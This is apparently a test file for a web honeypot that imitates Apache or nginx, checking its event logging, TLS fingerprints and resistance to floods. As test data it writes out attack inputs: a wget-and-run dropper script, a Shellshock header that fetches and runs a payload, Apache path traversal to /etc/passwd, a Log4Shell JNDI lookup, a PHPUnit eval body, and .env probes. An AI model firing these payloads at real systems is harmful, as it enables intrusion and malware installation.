import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash, randomBytes } from "node:crypto";
import { readFileSync } from "node:fs";
import type { Socket } from "node:net";
import { join } from "node:path";
import { Relay, removeDir, run, startPot, type Pot } from "./harness";
import { flood, open, closed, closedCount, rssKb } from "./hostile";

const TIMESTAMP = expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/);
const PAYLOAD = "#!/bin/sh\ncd /tmp; wget http://198.51.100.7/bins/x86; chmod +x x86; ./x86 web.exploit\n";

let relay: Relay;
let pot: Pot<"web">;
let http: string;
let https: string;
let payloads: ReturnType<typeof Bun.serve>;

beforeAll(async () => {
  relay = Relay.start();
  // The payload server a bot's exploit points at, on this machine (download_private lets the pot reach it).
  payloads = Bun.serve({ hostname: "127.0.0.1", port: 0, fetch: (req) => (new URL(req.url).pathname === "/x.sh" ? new Response(PAYLOAD) : new Response("no", { status: 404 })) });
  pot = await startPot("web", { http_port: "0", https_port: "0", download_private: "true" }, relay);
  http = `http://127.0.0.1:${pot.ports.http}`;
  https = `https://127.0.0.1:${pot.ports.https}`;
});

afterAll(async () => {
  if (pot.proc.exitCode === null) await pot.stop();
  relay.stop();
  payloads.stop(true);
  removeDir(pot.dir);
});

/** curl -i, split into status, lower-cased headers and body; stderr keeps curl's -v lines. */
async function curl(...args: string[]): Promise<{ status: number; headers: Record<string, string>; body: string; stderr: string }> {
  const r = await run(["curl", "-s", "-i", ...args]);
  expect(r.code).toBe(0);
  const cut = r.stdout.indexOf("\r\n\r\n");
  const [statusLine, ...lines] = r.stdout.slice(0, cut).split("\r\n");
  const headers: Record<string, string> = {};
  for (const line of lines) headers[line.slice(0, line.indexOf(":")).toLowerCase()] = line.slice(line.indexOf(":") + 1).trim();
  return { status: Number(statusLine!.split(" ")[1]), headers, body: r.stdout.slice(cut + 4), stderr: r.stderr };
}

/** The events of the session that made `request`, once it has closed. */
async function sessionOf(request: { session: string }): Promise<any[]> {
  await relay.event("web.session.closed", { session: request.session });
  return relay.session(request.session);
}

const common = (tls = false) => ({
  src_ip: "127.0.0.1",
  src_port: expect.any(Number),
  dst_ip: "127.0.0.1",
  dst_port: tls ? pot.ports.https : pot.ports.http,
  protocol: tls ? "https" : "http",
  session: expect.stringMatching(/^[0-9a-f]{12}$/),
  timestamp: TIMESTAMP,
  pot_id: "web-test",
  pot_type: "web",
  node_id: expect.any(Number),
});

describe("plain HTTP, as Apache on Debian", () => {
  test("GET / is Debian's default page with Apache's headers; the connection is one session", async () => {
    const r = await curl("-A", "curl/7.88.1 root", `${http}/`);
    expect(r.status).toBe(200);
    expect(r.headers).toMatchObject({ server: "Apache/2.4.62 (Debian)", "content-type": "text/html", "accept-ranges": "bytes", "keep-alive": "timeout=5, max=100", connection: "Keep-Alive" });
    expect(r.body).toContain("<title>Apache2 Debian Default Page: It works</title>");
    const request = await relay.event("web.request", { user_agent: "curl/7.88.1 root" });
    expect(request).toEqual({
      eventid: "web.request",
      method: "GET",
      uri: "/",
      path: "/",
      query: "",
      version: "HTTP/1.1",
      headers: [`Host: 127.0.0.1:${pot.ports.http}`, "User-Agent: curl/7.88.1 root", "Accept: */*"],
      user_agent: "curl/7.88.1 root",
      host: `127.0.0.1:${pot.ports.http}`,
      content_type: "",
      body: "",
      body_size: 0,
      body_sha256: "",
      body_truncated: false,
      request_index: 1,
      status: 200,
      ja4h: "ge11nn030000_fe444ad14866_000000000000_000000000000",
      tls: false,
      ...common(),
    });
    const events = await sessionOf(request);
    expect(events.map((e) => e.eventid)).toEqual(["web.session.connect", "web.request", "web.session.closed"]);
    expect(events[0]).toEqual({ eventid: "web.session.connect", tls: false, ...common() });
    expect(events[2]).toEqual({ eventid: "web.session.closed", requests: 1, duration: expect.any(Number), ...common() });
  });

  test("a missing page is Apache's 404, word for word", async () => {
    const r = await curl(`${http}/no-such-page.html`);
    expect(r.status).toBe(404);
    expect(r.headers["content-type"]).toBe("text/html; charset=iso-8859-1");
    expect(r.body).toBe(
      `<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">\n<html><head>\n<title>404 Not Found</title>\n</head><body>\n<h1>Not Found</h1>\n<p>The requested URL was not found on this server.</p>\n<hr>\n<address>Apache/2.4.62 (Debian) Server at 127.0.0.1 Port ${pot.ports.http}</address>\n</body></html>\n`,
    );
    expect(await relay.event("web.request", { uri: "/no-such-page.html" })).toMatchObject({ status: 404 });
  });

  test("a posted login form: the body whole with its hash, and the credentials", async () => {
    const r = await curl("-d", "username=admin&password=hunter2", `${http}/index.php`);
    expect(r.status).toBe(200);
    expect(r.headers).toMatchObject({ "x-powered-by": "PHP/8.2.29", "content-type": "text/html; charset=UTF-8", "set-cookie": expect.stringMatching(/^PHPSESSID=[a-v0-9]{13}; path=\/$/) });
    expect(r.body).toContain("Invalid username or password.");
    const request = await relay.event("web.request", { uri: "/index.php", method: "POST" });
    expect(request).toMatchObject({
      content_type: "application/x-www-form-urlencoded",
      body: "username=admin&password=hunter2",
      body_size: 31,
      body_sha256: createHash("sha256").update("username=admin&password=hunter2").digest("hex"),
      body_truncated: false,
      ja4h: expect.stringMatching(/^po11nn050000_/),
    });
    expect(await relay.event("web.login.failed", { session: request.session })).toEqual({
      eventid: "web.login.failed",
      username: "admin",
      password: "hunter2",
      auth: "form",
      method: "POST",
      uri: "/index.php",
      request_index: 1,
      ...common(),
    });
  });

  test("a body past body_max_bytes is kept up to the bound and counted whole", async () => {
    const dir = pot.dir;
    const file = join(dir, "big-body");
    await Bun.write(file, "A".repeat(100_000));
    const r = await curl("--data-binary", `@${file}`, `${http}/upload.php`);
    expect(r.status).toBe(404);
    const request = await relay.event("web.request", { uri: "/upload.php" });
    expect({ size: request.body_size, kept: request.body.length, truncated: request.body_truncated }).toEqual({ size: 100_000, kept: 65_536, truncated: true });
  });
});

describe("recorded exploits", () => {
  test("Apache path traversal (CVE-2021-41773) gets Apache's 400 and is a web.exploit", async () => {
    const r = await curl("--path-as-is", `${http}/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd`);
    expect(r.status).toBe(400);
    const exploit = await relay.event("web.exploit", { family: "path_traversal" });
    expect(exploit).toEqual({ eventid: "web.exploit", family: "path_traversal", indicator: ".%2e/.%2e/.%2e/.%2e/etc/passwd", method: "GET", uri: "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", request_index: 1, ...common() });
  });

  test("Shellshock with a wget: the payload is fetched into the outbox, never run", async () => {
    const url = `http://127.0.0.1:${payloads.port}/x.sh`;
    const r = await curl("-A", `() { :; }; /bin/bash -c "wget ${url} -O /tmp/x.sh; sh /tmp/x.sh"`, `${http}/cgi-bin/status.cgi`);
    expect(r.status).toBe(404);
    const exploit = await relay.event("web.exploit", { family: "shellshock" });
    expect(exploit.indicator).toBe(`() { :; }; /bin/bash -c "wget ${url} -O /tmp/x.sh; sh /tmp/x.sh"`);
    const sha = createHash("sha256").update(PAYLOAD).digest("hex");
    const download = await relay.event("web.session.file_download", { session: exploit.session });
    expect(download).toEqual({ eventid: "web.session.file_download", url, shasum: sha, outfile: `outbox/${sha}`, size: PAYLOAD.length, filename: "x.sh", ...common() });
    expect(readFileSync(join(pot.dir, "outbox", sha), "utf8")).toBe(PAYLOAD);
    // The same exploit again: the file is not fetched twice.
    await curl("-A", `() { :; }; /bin/bash -c "wget ${url}"`, `${http}/cgi-bin/test-cgi`);
    const again = await relay.next((e) => e.eventid === "web.session.file_download" && e.duplicate === true);
    expect(again).toMatchObject({ url, shasum: sha, duplicate: true });
    expect((await sessionOf(exploit)).at(-1)).toMatchObject({ eventid: "web.session.closed", requests: 1 });
  });

  test("Log4Shell in a header: classified, and its LDAP server never contacted", async () => {
    let contacted = false;
    using ldap = Bun.listen({ hostname: "127.0.0.1", port: 0, socket: { open: () => void (contacted = true), data: () => {} } });
    const lookup = `\${jndi:ldap://127.0.0.1:${ldap.port}/Exploit}`;
    await curl("-H", `X-Api-Version: ${lookup}`, `${http}/?log4j`);
    const exploit = await relay.event("web.exploit", { family: "log4shell" });
    expect(exploit.indicator).toBe(lookup);
    const events = await sessionOf(exploit);
    expect(events.map((e) => e.eventid)).toEqual(["web.session.connect", "web.request", "web.exploit", "web.session.closed"]);
    expect(contacted).toBe(false);
  });

  test("PHPUnit eval-stdin with a PHP body", async () => {
    const php = '<?php echo(md5("Hello PHPUnit"));';
    const r = await curl("--data-binary", php, `${http}/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php`);
    expect(r.status).toBe(404);
    const exploit = await relay.event("web.exploit", { family: "phpunit_eval_stdin" });
    const request = (await sessionOf(exploit)).find((e) => e.eventid === "web.request");
    expect(request).toMatchObject({ body: php, status: 404 });
  });

  test(".env gets the bait, .git/config a 404; both are probes", async () => {
    const env = await curl(`${http}/.env`);
    expect(env.status).toBe(200);
    expect(env.body).toMatch(/^DB_PASSWORD=\w{20}$/m);
    expect(env.headers["content-type"]).toBeUndefined();
    expect((await curl(`${http}/.env`)).body).toBe(env.body);
    expect(await relay.event("web.exploit", { family: "env_probe" })).toMatchObject({ indicator: "/.env" });
    expect((await curl(`${http}/.git/config`)).status).toBe(404);
    expect(await relay.event("web.exploit", { family: "git_probe" })).toMatchObject({ indicator: "/.git/config", uri: "/.git/config" });
  });
});

describe("TLS", () => {
  test("curl -k: the same JA3 and JA4 on two runs, SNI when a name is used, the snakeoil certificate", async () => {
    const first = await curl("-k", "-A", "tls-1", `${https}/`);
    expect(first.status).toBe(200);
    await curl("-k", "-A", "tls-2", `${https}/`);
    await curl("-k", "-A", "tls-sni", "--resolve", `www.example.org:${pot.ports.https}:127.0.0.1`, `https://www.example.org:${pot.ports.https}/`);
    const [a, b, named] = [await relay.event("web.request", { user_agent: "tls-1" }), await relay.event("web.request", { user_agent: "tls-2" }), await relay.event("web.request", { user_agent: "tls-sni" })];
    const [helloA, helloB, helloNamed] = await Promise.all([a, b, named].map((r) => relay.event("web.tls.client_hello", { session: r.session })));
    expect(helloA).toEqual({
      eventid: "web.tls.client_hello",
      ja3: expect.stringMatching(/^771,[\d-]+,[\d-]+,[\d-]+,[\d-]*$/),
      ja3_hash: expect.stringMatching(/^[0-9a-f]{32}$/),
      ja4: expect.stringMatching(/^t13i\d{4}h2_[0-9a-f]{12}_[0-9a-f]{12}$/),
      ja4_r: expect.any(String),
      sni: null,
      alpn: ["h2", "http/1.1"],
      tls_version: "TLSv1.3",
      ciphers: expect.any(Number),
      ...common(true),
    });
    expect({ ja3: helloB.ja3, ja4: helloB.ja4 }).toEqual({ ja3: helloA.ja3, ja4: helloA.ja4 });
    // With a name curl adds server_name: JA4 says "d" and counts one more extension; its hashed parts stay the same.
    expect(helloNamed.sni).toBe("www.example.org");
    const [, countA, restA] = /^t13i(\d{4})h2(_.*)$/.exec(helloA.ja4)!;
    expect(helloNamed.ja4).toBe(`t13d${countA!.slice(0, 2)}${String(Number(countA!.slice(2)) + 1).padStart(2, "0")}h2${restA}`);
    expect(named.sni).toBe("www.example.org");
    expect(a).toMatchObject({ tls: true, ja4: helloA.ja4, ja3_hash: helloA.ja3_hash, sni: null, uri: "/", status: 200 });
    expect((await sessionOf(a)).at(-1)).toEqual({
      eventid: "web.session.closed",
      requests: 1,
      ja3: helloA.ja3,
      ja3_hash: helloA.ja3_hash,
      ja4: helloA.ja4,
      sni: null,
      tls_version: "TLSv1.3",
      tls_cipher: expect.stringMatching(/^TLS_/),
      alpn: "http/1.1",
      duration: expect.any(Number),
      ...common(true),
    });
    const cert = await run(["openssl", "s_client", "-connect", `127.0.0.1:${pot.ports.https}`], "");
    expect(cert.stdout).toMatch(/subject=CN ?= ?debian/);
  });

  test("plain HTTP to the TLS port gets Apache's 'speaking plain HTTP' 400, as mod_ssl sends it: the page alone", async () => {
    const r = await run(["curl", "-s", "--http0.9", "-A", "plain-to-tls", `http://127.0.0.1:${pot.ports.https}/`]);
    expect(r.stdout).toStartWith('<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">\n<html><head>\n<title>400 Bad Request</title>');
    expect(r.stdout).toContain("Reason: You're speaking plain HTTP to an SSL-enabled server port.<br />");
    const request = await relay.event("web.request", { user_agent: "plain-to-tls" });
    expect((await sessionOf(request)).at(-1)).toMatchObject({ plain_http: true, requests: 1 });
  });
});

describe("nmap -sV", () => {
  test("names Apache httpd 2.4.62 on the plain and the TLS port", async () => {
    const r = await run(["nmap", "-sV", "-Pn", "-p", `${pot.ports.http},${pot.ports.https}`, "127.0.0.1"]);
    console.log(r.stdout);
    expect(r.stdout).toMatch(new RegExp(`${pot.ports.http}/tcp +open +http +Apache httpd 2\\.4\\.62 \\(\\(Debian\\)\\)`));
    // On a port nmap does not know for TLS it sends plain HTTP first, and Apache's answer to that
    // ("speaking plain HTTP to an SSL-enabled server port") is its signature for Apache in SSL-only mode.
    expect(r.stdout).toMatch(new RegExp(`${pot.ports.https}/tcp +open +ssl/http +Apache httpd 2\\.4\\.62 \\(\\(Debian\\)(; SSL-only mode)?\\)`));
  }, 240_000);

  test("names nginx 1.22.1 with server=nginx", async () => {
    const nginx = await startPot("web", { http_port: "0", https_port: "0", server: "nginx" }, null);
    try {
      const r = await curl(`http://127.0.0.1:${nginx.ports.http}/`);
      expect(r.headers.server).toBe("nginx/1.22.1");
      expect(r.body).toContain("<title>Welcome to nginx!</title>");
      const scan = await run(["nmap", "-sV", "-Pn", "-p", `${nginx.ports.http},${nginx.ports.https}`, "127.0.0.1"]);
      console.log(scan.stdout);
      expect(scan.stdout).toMatch(new RegExp(`${nginx.ports.http}/tcp +open +http +nginx 1\\.22\\.1`));
      expect(scan.stdout).toMatch(new RegExp(`${nginx.ports.https}/tcp +open +ssl/http +nginx 1\\.22\\.1`));
    } finally {
      await nginx.stop();
      removeDir(nginx.dir);
    }
  }, 240_000);
});

describe("hostile input", () => {
  test("garbage, floods past every bound and too many connections: the pot stays up and small, and curl is still recorded", async () => {
    const relay = Relay.start();
    const pot = await startPot("web", { http_port: "0", https_port: "0", max_connections: "16" }, relay);
    const sockets: Socket[] = [];
    const sessionEvents = async (request: { session: string }) => {
      await relay.event("web.session.closed", { session: request.session });
      return relay.session(request.session).map((e) => e.eventid);
    };
    try {
      const [plain, tls] = [pot.ports.http, pot.ports.https];
      const [garbage, longLine, bigBody, chunked, pipelined, tlsGarbage, tlsHuge] = await Promise.all([plain, plain, plain, plain, plain, tls, tls].map(open));
      sockets.push(garbage!, longLine!, bigBody!, chunked!, pipelined!, tlsGarbage!, tlsHuge!);
      longLine!.write("GET /");
      bigBody!.write("POST /big HTTP/1.1\r\nHost: x\r\nContent-Length: 100000000\r\n\r\n");
      chunked!.write("POST /chunks HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n");
      const chunk = Buffer.concat([Buffer.from("10000\r\n"), Buffer.alloc(0x10000, 0x43), Buffer.from("\r\n")]);
      // A record that announces a ClientHello of 128 KB, past the 64 KB a hello may take.
      tlsHuge!.write(Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0x02, 0x00, 0x00]));
      const floods = Promise.all([
        flood(garbage!, randomBytes(64 * 1024), 8 * 1024 * 1024),
        flood(longLine!, Buffer.alloc(64 * 1024, 0x41), 8 * 1024 * 1024),
        flood(bigBody!, Buffer.alloc(64 * 1024, 0x42), 12 * 1024 * 1024),
        flood(chunked!, chunk, 12 * 1024 * 1024),
        flood(pipelined!, Buffer.from("GET /p HTTP/1.1\r\nHost: x\r\n\r\n".repeat(2000)), 8 * 1024 * 1024),
        flood(tlsGarbage!, Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00]), randomBytes(64 * 1024)]), 8 * 1024 * 1024),
        flood(tlsHuge!, Buffer.alloc(16 * 1024, 0x16), 8 * 1024 * 1024),
      ]);
      // While they flood, more connections than max_connections on the plain port, and a real client on the TLS one.
      const swarm = await Promise.all(Array.from({ length: 40 }, () => open(plain)));
      sockets.push(...swarm);
      const during = await curl("-k", "-A", "during-the-flood", `https://127.0.0.1:${tls}/index.php?page=1`);
      expect(during.status).toBe(200);
      await floods;
      // At most 16 connections are open at once on a listener: at least 24 of the 40 were closed at once.
      expect(await closedCount(swarm, 24)).toBeGreaterThanOrEqual(24);
      for (const s of [garbage!, longLine!, pipelined!, tlsGarbage!, tlsHuge!]) await closed(s);
      const rss = rssKb(pot.proc.pid);
      console.log(`web pot VmRSS after the floods: ${rss} kB`);
      expect(rss).toBeLessThan(150 * 1024);
      expect(pot.proc.exitCode).toBeNull();
      for (const s of sockets) s.destroy();

      for (const uri of ["/big", "/chunks"]) {
        const cut = await relay.event("web.request", { uri });
        expect({ uri, many: cut.body_size > 4 * 1024 * 1024, kept: cut.body.length, truncated: cut.body_truncated, incomplete: cut.incomplete }).toEqual({ uri, many: true, kept: 65_536, truncated: true, incomplete: true });
      }
      expect(await relay.event("web.request.invalid", { reason: "line_too_long" })).toMatchObject({ status: 414, size: expect.any(Number) });
      expect(await relay.event("web.request.invalid", { reason: "bad_request_line" })).toMatchObject({ status: 400 });
      const pipelinedClosed = await relay.next((e) => e.eventid === "web.session.closed" && e.requests === 100);
      expect(relay.session(pipelinedClosed.session).filter((e) => e.eventid === "web.request" && e.uri === "/p")).toHaveLength(100);
      expect(await relay.event("web.tls.client_hello", { error: "ClientHello too long" })).toMatchObject({ protocol: "https" });

      const after = await curl("-A", "after-the-flood", `http://127.0.0.1:${plain}/`);
      expect(after.status).toBe(200);
      const duringRequest = await relay.event("web.request", { user_agent: "during-the-flood" });
      expect(duringRequest).toMatchObject({ uri: "/index.php?page=1", query: "page=1", status: 200, tls: true });
      expect(await sessionEvents(duringRequest)).toEqual(["web.session.connect", "web.tls.client_hello", "web.request", "web.session.closed"]);
      expect(await sessionEvents(await relay.event("web.request", { user_agent: "after-the-flood" }))).toEqual(["web.session.connect", "web.request", "web.session.closed"]);
    } finally {
      for (const s of sockets) s.destroy();
      if (pot.proc.exitCode === null) await pot.stop();
      relay.stop();
      removeDir(pot.dir);
    }
  }, 120_000);
});
